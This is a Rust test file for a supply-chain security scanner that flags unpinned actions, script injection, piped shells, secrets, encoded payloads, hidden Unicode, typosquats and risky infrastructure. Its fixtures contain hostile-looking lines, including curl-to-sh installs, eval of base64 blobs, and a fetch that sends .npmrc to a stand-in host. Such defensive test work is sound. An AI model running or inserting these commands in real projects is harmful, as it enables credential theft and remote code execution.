use super::*;

const WORKFLOW: &str = ".github/workflows/ci.yml";
const SAFE: &str = "on: push\npermissions: {contents: read}\njobs:\n  a:\n    runs-on: x\n    steps:\n";

/// Codes and lines of what is found in a workflow with these steps.
fn found(head: &str, steps: &str) -> Vec<(Code, usize)> {
    let findings = inspect(WORKFLOW, format!("{head}{steps}").as_bytes()).unwrap();
    findings.into_iter().map(|finding| (finding.code, finding.line)).collect()
}

#[test]
fn every_rule_has_a_code_of_its_own() {
    let all: std::collections::BTreeSet<Code> = codes().collect();
    assert_eq!(all.len(), RULES.len());
}

#[test]
fn unpinned_actions() {
    for (uses, bad) in [
        ("actions/checkout@v4", true),
        ("actions/checkout@main", true),
        ("actions/checkout", true),
        ("docker://alpine:3.20", true),
        ("owner/repo/.github/workflows/x.yml@v1", true),
        ("actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11", false),
        ("./local/action", false),
    ] {
        let found = found(SAFE, &format!("      - uses: {uses}\n"));
        assert_eq!(found, if bad { vec![(Code::UnpinnedAction, 7)] } else { vec![] }, "{uses}");
    }
    let called = "on: push\npermissions: {}\njobs:\n  a:\n    uses: owner/repo/.github/workflows/x.yml@v1\n";
    assert_eq!(found(called, ""), [(Code::UnpinnedAction, 5)]);
    let twice = found(SAFE, "      - uses: a/b@v1\n      - run: true\n      - uses: a/b@v1\n");
    assert_eq!(twice, [(Code::UnpinnedAction, 7), (Code::UnpinnedAction, 9)]);
}

#[test]
fn untrusted_checkouts() {
    let pinned = "actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11";
    let head = |on: &str| SAFE.replace("on: push", on);
    let steps = format!(
        "      - uses: {pinned}\n        with:\n          ref: ${{{{ github.event.pull_request.head.sha }}}}\n"
    );
    for on in [
        "on: pull_request_target",
        "on: [push, pull_request_target]",
        "on:\n  workflow_run: {workflows: [x]}",
    ] {
        assert_eq!(
            found(&head(on), &steps).first().map(|(code, _)| *code),
            Some(Code::UntrustedCheckout),
            "{on}"
        );
    }
    assert_eq!(found(&head("on: pull_request"), &steps), []);
    assert_eq!(found(&head("on: pull_request_target"), &format!("      - uses: {pinned}\n")), []);
    let by_hand = "      - run: gh pr checkout 1\n";
    assert_eq!(found(&head("on: issue_comment"), by_hand), [(Code::UntrustedCheckout, 7)]);
}

#[test]
fn script_injections() {
    for (script, bad) in [
        ("echo ${{ github.event.issue.title }}", true),
        ("echo \"${{github.event.comment.body}}\"", true),
        ("echo ${{ format('{0}', github.head_ref) }}", true),
        ("echo ${{ github.event.pull_request.head.ref }}", true),
        ("echo ${{ github.event.commits[0].message }}", true),
        ("echo ${{ github.sha }}", false),
        ("echo ${{ github.event.repository.default_branch }}", false),
        ("echo ${{ github.event.issue.number }}", false),
        ("echo $TITLE", false),
    ] {
        let found = found(SAFE, &format!("      - run: |\n          true\n          {script}\n"));
        assert_eq!(found, if bad { vec![(Code::ScriptInjection, 9)] } else { vec![] }, "{script}");
    }
    let api = "      - uses: actions/github-script@b4ffde65f46336ab88eb53be808477a3936bae11\n        with:\n          script: log('${{ github.event.issue.body }}')\n";
    assert_eq!(found(SAFE, api), [(Code::ScriptInjection, 9)]);
}

#[test]
fn broad_permissions() {
    let steps = "      - run: 'true'\n";
    assert_eq!(found(&SAFE.replace("{contents: read}", "write-all"), steps), [(Code::BroadPermissions, 2)]);
    assert_eq!(
        found(&SAFE.replace("permissions: {contents: read}\n", ""), steps),
        [(Code::BroadPermissions, 3)]
    );
    let of_job = SAFE
        .replace("permissions: {contents: read}\n", "")
        .replace("    runs-on", "    permissions: write-all\n    runs-on");
    assert_eq!(found(&of_job, steps), [(Code::BroadPermissions, 4)]);
    assert_eq!(found(SAFE, steps), []);
}

#[test]
fn piped_shells() {
    for (script, bad) in [
        ("curl -sSf https://x.example/i.sh | sh", true),
        ("wget -qO- https://x.example | sudo -E bash -", true),
        ("bash <(curl -s https://x.example)", true),
        ("sh -c \"$(curl -fsSL https://x.example)\"", true),
        ("curl https://x.example | tee log | python3", true),
        ("curl https://x.example | jq .", false),
        ("echo a | sh", false),
        ("# curl https://x.example | sh", false),
        ("curl -o f https://x.example && sha256sum -c f.sum", false),
    ] {
        let found = found(SAFE, &format!("      - run: |\n          {script}\n"));
        assert_eq!(found, if bad { vec![(Code::PipedShell, 8)] } else { vec![] }, "{script}");
    }
}

#[test]
fn install_scripts() {
    let manifest = "{\n \"scripts\": {\n  \"test\": \"x\",\n  \"postinstall\": \"node x.js\"\n }\n}";
    let found = inspect("a/package.json", manifest.as_bytes()).unwrap();
    assert_eq!((found.len(), found[0].code, found[0].line), (1, Code::InstallScript, 4));
    assert_eq!(inspect("package.json", b"{\"scripts\":{\"test\":\"x\"}}").unwrap(), []);
    assert_eq!(inspect("package.json", b"{").map_err(|fault| fault.code), Err(Code::MalformedJson));
}

#[test]
fn hidden_characters() {
    let of = |text: &str| inspect("a.js", text.as_bytes()).unwrap().len();
    assert_eq!(of("let a = 1;\nif (x\u{202e}) {}\n"), 1);
    assert_eq!(of(&format!("let a = '{}';", "\u{e0100}".repeat(40))), 1);
    assert_eq!(of("ok \u{2764}\u{fe0f} — „fine“ \u{feff}"), 0);
    assert_eq!(inspect("a.js", b"\xff").map_err(|fault| fault.code), Err(Code::UnsupportedFormat));
}

#[test]
fn nothing_inside_switches_a_rule_off() {
    let ignored = "      - uses: a/b@v1 # linkward: ignore, zizmor: ignore[unpinned-uses], nosemgrep\n";
    assert_eq!(found(SAFE, ignored).len(), 1);
}

#[test]
fn what_is_no_workflow_is_said() {
    for bad in ["", "a: [", "name: x\n", "jobs: 1\n"] {
        assert_eq!(
            inspect(WORKFLOW, bad.as_bytes()).map_err(|fault| fault.code),
            Err(Code::WorkflowMalformed),
            "{bad}"
        );
    }
}

proptest::proptest! {
    #[test]
    fn any_text_is_inspected_or_refused(text in "\\PC{0,300}") {
        for path in [WORKFLOW, "package.json", "x.js"] {
            let _ = inspect(path, text.as_bytes());
        }
    }
}

/// Codes and lines of what is found in a file of this name.
fn of(path: &str, text: &str) -> Vec<(Code, usize)> {
    inspect(path, text.as_bytes()).unwrap().into_iter().map(|finding| (finding.code, finding.line)).collect()
}

#[test]
fn secrets_are_known_by_their_form() {
    let random = "aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zA1bC3";
    for (text, bad) in [
        (format!("token = \"ghp_{random}\""), true),
        (format!("key: AKIA{}", "Q7R5T3YU1WSZ9PLK"), true),
        (format!("//x/:_authToken=npm_{random}"), true),
        (format!("-----BEGIN PRIVATE KEY-----\n{}\n{}\n-----END PRIVATE KEY-----", random, random), true),
        ("AKIAIOSFODNN7EXAMPLE".to_owned(), false),
        (format!("ghp_{}", "x".repeat(36)), false),
        (format!("xghp_{random}"), false),
        (format!("ghp_{random}tooLong"), false),
        ("if text.startsWith(\"-----BEGIN PRIVATE KEY-----\") {}".to_owned(), false),
    ] {
        let found = of("a/.env", &format!("\n{text}\n"));
        assert_eq!(found, if bad { vec![(Code::SecretExposed, 2)] } else { vec![] }, "{text}");
        let said = inspect("a.log", format!("\n{text}\n").as_bytes()).unwrap();
        assert!(said.iter().all(|finding| !finding.message.contains(random)), "secrets are not repeated");
    }
}

#[test]
fn encoded_payloads_stand_beside_what_runs_them() {
    let text = "QUJD".repeat(200);
    for (code, bad) in [
        (format!("exec(base64.b64decode('{text}'))"), true),
        (format!("const p = \"{text}\";\neval(atob(p))"), true),
        (format!("const icon = \"data:image/png;base64,{text}\";"), false),
        (format!("const p = \"{text}\";{}eval(x)", "\n".repeat(20)), false),
    ] {
        let found = of("x.js", &code);
        assert_eq!(found.first().map(|(code, _)| *code), bad.then_some(Code::EncodedPayload), "{code}");
    }
}

/// What runs text is a word of its own, near the text; programs packed into one line have everything in that line.
#[test]
fn a_call_of_another_name_runs_no_text() {
    let text = "A".repeat(600);
    let far = "x;".repeat(1500);
    for (code, bad) in [
        (format!("a=atob(\"{text}\");/x/.exec(a);isFunction(a);re.compile(a)"), false),
        (format!("a=atob(\"{text}\");WebAssembly.compile(a)"), false),
        (format!("a=atob(\"{text}\");eval(a)"), true),
        (format!("a=atob(\"{text}\");new Function(a)()"), true),
        (format!("a=atob(\"{text}\");require('child_process').exec(a)"), true),
        (format!("a=atob(\"{text}\");globalThis.eval(a)"), true),
        (format!("a=atob(\"{text}\");cp.execSync(a)"), true),
        (format!("a=atob(\"{text}\");retrieval(a);reval(a)"), false),
        (format!("exec(compile(base64.b64decode('{text}'),'','exec'))"), true),
        (format!("a=atob(\"{text}\");{far}eval(b)"), false),
        (format!("\u{e9}{far}\u{e9}a=atob(\"{text}\");eval(a)\u{e9}{far}\u{e9}"), true),
    ] {
        let found = of("x.js", &code);
        assert_eq!(
            found.first().map(|(code, _)| *code),
            bad.then_some(Code::EncodedPayload),
            "{}",
            &code[code.len() - 40..]
        );
    }
}

#[test]
fn invisible_characters_that_belong_to_nothing_are_found() {
    let selectors = |number: u32| char::from_u32(0xfe00 + number % 16).unwrap();
    let hidden: String = (0..40).map(selectors).collect();
    let tags: String = "payload-".chars().map(|c| char::from_u32(0xe0000 + u32::from(c)).unwrap()).collect();
    let england = "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}";
    let words = "word ".repeat(800);
    for (line, bad) in [
        ("\u{263a}\u{fe0f}".repeat(300), false),
        (england.repeat(30), false),
        ("1\u{fe0f}\u{20e3}".repeat(30), false),
        (format!("{words}\u{200b}{words}{}", "\u{2061} ".repeat(12)), false),
        (format!("let x = 1;{hidden}"), true),
        (format!("{words}{words}{hidden}"), true),
        (format!("\u{263a}{hidden}"), true),
        (tags.repeat(2), true),
        (format!("{england}{}", tags.repeat(2)), true),
        ("a\u{fe01}".repeat(30), true),
        ("\u{e9}\u{fe07}".repeat(30), true),
        ("\u{4e2d}\u{e0101}".repeat(30), true),
        ("a\u{200b}".repeat(9), true),
        ("a\u{200b}".repeat(8), false),
    ] {
        let found = of("x.js", &line);
        assert_eq!(
            found,
            if bad { vec![(Code::HiddenUnicode, 1)] } else { vec![] },
            "{}",
            line.escape_unicode()
        );
    }
}

#[test]
fn images_are_pinned_by_digest() {
    let pinned = format!("alpine@sha256:{}", "a".repeat(64));
    let file = format!(
        "ARG V=1\nFROM --platform=linux/amd64 alpine:3 AS build\nFROM {pinned}\nCOPY --from=build /a /a\nCOPY --from=0 /a /a\nCOPY --from=busybox:1 /a /a\nFROM build\nFROM scratch\nFROM $BASE\n"
    );
    assert_eq!(of("Dockerfile", &file), [(Code::UnpinnedImage, 2), (Code::UnpinnedImage, 6)]);
    let pod = format!(
        "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - image: alpine:3\n  - image: \"{pinned}\"\n"
    );
    assert_eq!(of("pod.yaml", &pod), [(Code::UnpinnedImage, 5)]);
    assert_eq!(of("values.yaml", "image: alpine:3\n"), []);
    assert_eq!(of(".gitlab-ci.yml", "build:\n  image: alpine:3\n"), [(Code::UnpinnedImage, 2)]);
}

#[test]
fn what_is_included_is_pinned() {
    let commit = "b4ffde65f46336ab88eb53be808477a3936bae11";
    for (path, text, bad) in [
        (".gitlab-ci.yml", "include:\n  - remote: https://x.example/a.yml\n".to_owned(), true),
        (
            ".gitlab-ci.yml",
            "include:\n  - remote: https://x.example/a.yml\n    integrity: sha256-x\n".to_owned(),
            false,
        ),
        (".gitlab-ci.yml", "include:\n  - project: a/b\n    ref: main\n    file: x.yml\n".to_owned(), true),
        (
            ".gitlab-ci.yml",
            format!("include:\n  - project: a/b\n    ref: {commit}\n    file: x.yml\n"),
            false,
        ),
        (".circleci/config.yml", "version: 2.1\norbs:\n  node: circleci/node@5\njobs: {}\n".to_owned(), true),
        (".circleci/config.yml", "orbs:\n  node: circleci/node@5.1.0\n".to_owned(), false),
        ("Jenkinsfile", "@Library('shared@main') _\n".to_owned(), true),
        ("Jenkinsfile", format!("@Library('shared@{commit}') _\n"), false),
        ("main.tf", "module \"a\" {\n  source = \"x/y/z\"\n  version = \"~> 1.0\"\n}\n".to_owned(), true),
        ("main.tf", "module \"a\" {\n  source  = \"x/y/z\"\n  version = \"1.0.2\"\n}\n".to_owned(), false),
        ("main.tf", "module \"a\" {\n  source = \"git::https://x.example/y?ref=v1\"\n}\n".to_owned(), true),
        (
            "main.tf",
            format!("module \"a\" {{\n  source = \"git::https://x.example/y?ref={commit}\"\n}}\n"),
            false,
        ),
        ("main.tf", "module \"a\" {\n  source = \"./local\"\n}\n".to_owned(), false),
    ] {
        let codes: Vec<Code> = of(path, &text).into_iter().map(|(code, _)| code).collect();
        assert_eq!(codes, if bad { vec![Code::UnpinnedInclude] } else { vec![] }, "{text}");
    }
}

#[test]
fn pipelines_keep_secrets_and_do_not_run_what_they_fetch() {
    for (path, line, code) in [
        (".gitlab-ci.yml", "    - curl -s https://x.example/i | sh", Some(Code::PipedShell)),
        ("azure-pipelines.yml", "  - bash <(curl -s https://x.example/i)", Some(Code::PipedShell)),
        ("Dockerfile", "RUN apt-get update && curl https://x.example/i \\\n | bash", Some(Code::PipedShell)),
        (".gitlab-ci.yml", "    - printenv", Some(Code::SecretLogged)),
        (".gitlab-ci.yml", "    - echo \"token $DEPLOY_TOKEN\"", Some(Code::SecretLogged)),
        (".gitlab-ci.yml", "    - echo \"$DEPLOY_TOKEN\" | docker login --password-stdin", None),
        (".gitlab-ci.yml", "    - echo done", None),
        ("Jenkinsfile", "    sh 'make'", None),
    ] {
        assert_eq!(of(path, &format!("{line}\n")).first().map(|(code, _)| *code), code, "{line}");
    }
    assert_eq!(found(SAFE, "      - run: echo ${{ secrets.KEY }}\n"), [(Code::SecretLogged, 7)]);
}

#[test]
fn own_runners_and_caches_are_not_for_strangers() {
    let steps = "      - run: 'true'\n";
    let own = SAFE.replace("runs-on: x", "runs-on: [self-hosted, linux]");
    assert_eq!(found(&own.replace("on: push", "on: pull_request"), steps), [(Code::SelfHostedExposed, 5)]);
    assert_eq!(found(&own, steps), []);
    let cache = "      - uses: actions/cache@b4ffde65f46336ab88eb53be808477a3936bae11\n";
    assert_eq!(found(&SAFE.replace("on: push", "on: release"), cache), [(Code::CacheShared, 7)]);
    assert_eq!(found(&SAFE.replace("on: push", "on: {push: {tags: [v1]}}"), cache), [(Code::CacheShared, 7)]);
    assert_eq!(found(SAFE, cache), []);
}

#[test]
fn infrastructure_is_not_open_to_everybody() {
    let group = |block: &str| {
        format!(
            "resource \"aws_security_group\" \"a\" {{\n  {block} {{\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }}\n}}\n"
        )
    };
    assert_eq!(of("a.tf", &group("ingress")), [(Code::OpenPort, 3)]);
    assert_eq!(of("a.tf", &group("egress")), []);
    let template = "AWSTemplateFormatVersion: x\nResources:\n  A:\n    Type: AWS::EC2::SecurityGroup\n    Properties:\n      SecurityGroupIngress:\n      - CidrIp: 0.0.0.0/0\n      SecurityGroupEgress:\n      - CidrIp: 0.0.0.0/0\n";
    assert_eq!(of("stack.yaml", template), [(Code::OpenPort, 7)]);
    assert_eq!(of("a.tf", "  acl = \"public-read\"\n  block_public_acls = false\n").len(), 2);
    assert_eq!(of("a.tf", "  acl = \"private\"\n  block_public_acls = true\n"), []);
    let pod = |line: &str| format!("apiVersion: v1\nkind: Pod\nspec:\n  {line}\n");
    for line in [
        "securityContext: {privileged: true}",
        "hostNetwork: True",
        "hostPID: yes",
        "- path: /var/run/docker.sock",
        "capabilities: {add: [\"SYS_ADMIN\"]}",
    ] {
        assert_eq!(of("pod.yml", &pod(line)), [(Code::PrivilegedWorkload, 4)], "{line}");
    }
    assert_eq!(of("pod.yml", &pod("securityContext: {privileged: false}")), []);
    let json = r#"{"apiVersion":"v1","kind":"Pod","spec":{"hostNetwork":true}}"#;
    assert_eq!(of("pod.json", json), [(Code::PrivilegedWorkload, 1)]);
}

mod packages {
    use linkward_testkit::image::{file, gzip, tar, zip};

    use crate::package::Package;
    use crate::*;

    fn of(files: &[(&str, &[u8])]) -> Package {
        let named: Vec<(String, &[u8])> =
            files.iter().map(|(path, bytes)| (format!("package/{path}"), *bytes)).collect();
        let entries: Vec<_> = named.iter().map(|(path, bytes)| file(path, bytes)).collect();
        Package::archive(&gzip(&tar(&entries))).unwrap()
    }

    fn gained(old: &[(&str, &[u8])], new: &[(&str, &[u8])]) -> Vec<(Code, Weight, String)> {
        let found = of(new).gained(&of(old));
        found.into_iter().map(|finding| (finding.code, finding.weight, finding.path)).collect()
    }

    const PLAIN: (&str, &[u8]) = ("index.js", b"module.exports = 1\n");
    const MANIFEST: (&str, &[u8]) = ("package.json", br#"{"name":"left","version":"1.0.0"}"#);

    #[test]
    fn what_a_release_gained_is_told() {
        let hook: (&str, &[u8]) =
            ("package.json", br#"{"name":"left","scripts":{"postinstall":"node x.js"}}"#);
        let theft: (&str, &[u8]) = ("x.js", b"const c = require('child_process');\nfetch('https://x.example', {body: fs.readFileSync('.npmrc')})\n");
        let found = gained(&[MANIFEST, PLAIN], &[hook, PLAIN, theft]);
        let path = |path: &str| path.to_owned();
        assert_eq!(
            found,
            [
                (Code::CapabilityGained, Weight::High, path("package.json")),
                (Code::CapabilityGained, Weight::Medium, path("x.js")),
                (Code::CapabilityGained, Weight::Medium, path("x.js")),
                (Code::CapabilityGained, Weight::High, path("x.js")),
            ]
        );
        assert_eq!(gained(&[MANIFEST, PLAIN], &[MANIFEST, PLAIN]), []);
        assert_eq!(gained(&[hook, theft], &[hook, theft]), [], "what was there before is not gained");
        let binary: (&str, &[u8]) = ("lib.node", b"\x7fELF\x02\x01");
        assert_eq!(
            gained(&[PLAIN], &[PLAIN, binary]),
            [(Code::CapabilityGained, Weight::Medium, path("lib.node"))]
        );
        let readme: (&str, &[u8]) = ("README.md", b"eval( child_process fetch( .npmrc");
        assert_eq!(gained(&[PLAIN], &[PLAIN, readme]), []);
    }

    #[test]
    fn two_manifests_confuse() {
        let twice = of(&[MANIFEST, MANIFEST]).gained(&of(&[MANIFEST]));
        assert_eq!(twice.iter().map(|finding| finding.code).collect::<Vec<_>>(), [Code::ManifestConfusion]);
        let other: (&str, &[u8]) = ("package.json", br#"{"name":"right"}"#);
        assert_eq!(gained(&[MANIFEST], &[other])[0].0, Code::ManifestConfusion);
        assert_eq!(gained(&[MANIFEST], &[MANIFEST, ("Package.json", b"{}")])[0].0, Code::ManifestConfusion);
    }

    #[test]
    fn archives_are_read_whole_or_refused() {
        assert_eq!(Package::archive(&zip(&[("a.py", b"import socket\n")])).unwrap().files(), 1);
        let whole = gzip(&tar(&[file("package/a.js", b"x")]));
        let code =
            |bytes: &[u8]| Package::archive(bytes).map(|package| package.files()).map_err(|fault| fault.code);
        assert_eq!(code(&whole), Ok(1));
        for cut in [0, 5, 300, whole.len() / 2] {
            assert!(code(&whole[..cut]).is_err(), "{cut}");
        }
        assert_eq!(code(&gzip(&tar(&[file("../x", b"x")]))), Err(Code::ArchiveEscape));
        assert_eq!(code(&zip(&[("../x", b"x")])), Err(Code::ArchiveEscape));
        assert_eq!(code(&tar(&[("x", b'3', 0, "", b"")])), Err(Code::ArchiveDevice));
    }
}

mod names {
    use crate::name::Names;
    use crate::*;

    fn codes(names: &Names, purl: &str) -> Vec<Code> {
        names.judge(&purl.parse().unwrap(), "Cargo.lock").into_iter().map(|finding| finding.code).collect()
    }

    #[test]
    fn names_that_are_made_to_be_taken_for_others() {
        let names = Names::read(Some("brands = [\"acmecorp\"]\n[popular]\nnpm = [\"leftpad\"]\n[reserved]\nnpm = [\"@shop\", \"shop-*\"]\n")).unwrap();
        for (purl, code) in [
            ("pkg:npm/expres@1.0.0", Some(Code::NameSquat)),
            ("pkg:npm/lodahs@1.0.0", Some(Code::NameSquat)),
            ("pkg:npm/leftpat@1.0.0", Some(Code::NameSquat)),
            ("pkg:pypi/reqeusts@1.0", Some(Code::NameSquat)),
            ("pkg:npm/acmecorq-login@1.0.0", Some(Code::NameSquat)),
            ("pkg:npm/%40shop/cart@1.0.0", Some(Code::DependencyConfusion)),
            ("pkg:npm/shop-cart@1.0.0", Some(Code::DependencyConfusion)),
            ("pkg:npm/%40shop/cart@1.0.0?repository_url=registry.example", None),
            ("pkg:npm/left@99.10.9", Some(Code::VersionSuspicious)),
            ("pkg:npm/left@9999.0.0", Some(Code::VersionSuspicious)),
            ("pkg:npm/left@1000.0.1", Some(Code::VersionSuspicious)),
            ("pkg:npm/express@1.0.0", None),
            ("pkg:npm/express2@1.0.0", None),
            ("pkg:npm/acmecorp-login@1.0.0", None),
            ("pkg:pypi/certifi@2024.7.4", None),
            ("pkg:pypi/pytz@20240101", None),
            ("pkg:npm/left@100.0.0", None),
            ("pkg:npm/deep@1.0.0", None),
        ] {
            assert_eq!(codes(&names, purl), code.into_iter().collect::<Vec<_>>(), "{purl}");
        }
    }

    #[test]
    fn a_list_with_faults_is_refused() {
        for bad in ["x = 1", "brands = \"a\"", "[popular]\nnpm = 1", "[reserved\n"] {
            assert_eq!(
                Names::read(Some(bad)).map(|_| ()).map_err(|fault| fault.code),
                Err(Code::ConfigMalformed),
                "{bad}"
            );
        }
    }
}

mod logs {
    use crate::build_log::{compare, read};
    use crate::*;

    const LOG: &str = "npm http fetch GET 200 https://registry.example/@s%2fb/-/b-2.0.0.tgz 12ms\n\
        npm http fetch GET 200 https://registry.example/proxy/npm/left/-/left-1.0.0.tgz 9ms (cache miss)\n\
        2026-01-01T00:00:00.0000000Z   Downloaded serde v1.0.1\n\
        #7 12.34 go: downloading example.com/a v1.2.3\n\
        Collecting flask\n  Downloading Flask-3.0.0-py3-none-any.whl (99 kB)\nSuccessfully installed Flask-3.0.0 my-lib-2.1\n\
        [INFO] Downloaded from central: https://maven.example/maven2/org/x/y/1.0/y-1.0.jar (10 kB at 1.0 MB/s)\n\
        Downloaded from central: https://maven.example/maven2/org/x/y/1.0/y-1.0.pom (1 kB)\n\
        #5 [1/3] FROM registry.example/base:1@sha256:abc\n";

    #[test]
    fn every_tool_is_read() {
        let found: Vec<String> = read(LOG)
            .iter()
            .map(|one| format!("{} {} {} {}", one.line, one.kind, one.name, one.version))
            .collect();
        assert_eq!(
            found,
            [
                "1 npm @s/b 2.0.0",
                "2 npm left 1.0.0",
                "3 cargo serde 1.0.1",
                "4 golang example.com/a v1.2.3",
                "6 pypi flask 3.0.0",
                "7 pypi flask 3.0.0",
                "7 pypi my-lib 2.1",
                "8 maven org.x:y 1.0",
                "10 docker registry.example/base sha256:abc",
            ]
        );
    }

    #[test]
    fn what_is_not_locked_and_what_is_not_fetched() {
        let locked: Vec<linkward_model::Purl> = [
            "pkg:npm/%40s/b@2.0.0",
            "pkg:npm/left@1.1.0",
            "pkg:npm/unused@1.0.0",
            "pkg:pypi/Flask@3.0.0",
            "pkg:pypi/my-lib@2.1",
            "pkg:cargo/serde@1.0.1",
            "pkg:maven/org.x/y@1.0",
            "pkg:golang/example.com/a@v1.2.3",
            "pkg:gem/rails@7",
        ]
        .iter()
        .map(|purl| purl.parse().unwrap())
        .collect();
        let found: Vec<(Code, usize)> = compare("build.log", &read(LOG), &locked)
            .into_iter()
            .map(|finding| (finding.code, finding.line))
            .collect();
        // left of another version, an image that nothing locks, and one that was not fetched; of gems the log says nothing.
        assert_eq!(found, [(Code::BuildUnfetched, 1), (Code::BuildUnlisted, 2), (Code::BuildUnlisted, 10)]);
    }
}

proptest::proptest! {
    #[test]
    fn any_log_name_and_archive_is_read_or_refused(text in "\\PC{0,300}", bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..600)) {
        let _ = build_log::read(&text);
        let _ = name::Names::read(Some(&text));
        let _ = package::Package::archive(&bytes);
        for path in ["a.tf", "Dockerfile", ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile", "x.yaml", "x.py", ".env"] {
            let _ = inspect(path, text.as_bytes());
        }
    }
}
